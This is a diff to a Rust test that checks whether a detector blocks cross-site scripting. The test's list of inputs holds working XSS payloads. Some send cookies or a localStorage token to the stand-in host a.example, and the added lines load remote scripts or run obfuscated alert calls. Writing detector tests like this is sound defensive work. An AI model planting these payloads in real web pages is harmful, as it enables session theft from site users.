@@ -389,6 +389,12 @@ fn files_in_fields() {
             "<script>new Image().src = '//a.example/?' + document.cookie</script>",
             "<svg onload=\"fetch('//a.example/', {method: 'POST', body: localStorage.getItem('t')})\">",
             "<a href=\"javascript:alert(1)\">x</a>",
+            "<script src=\"//a.example/x.js\"></script>",
+            "<script src=http://a.example/x.js></script>",
+            "<script language=vbs>msgbox 1</script>",
+            "<script>window['al' + 'ert'](1)</script>",
+            "<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>",
+            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
         ] {
             check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
         }
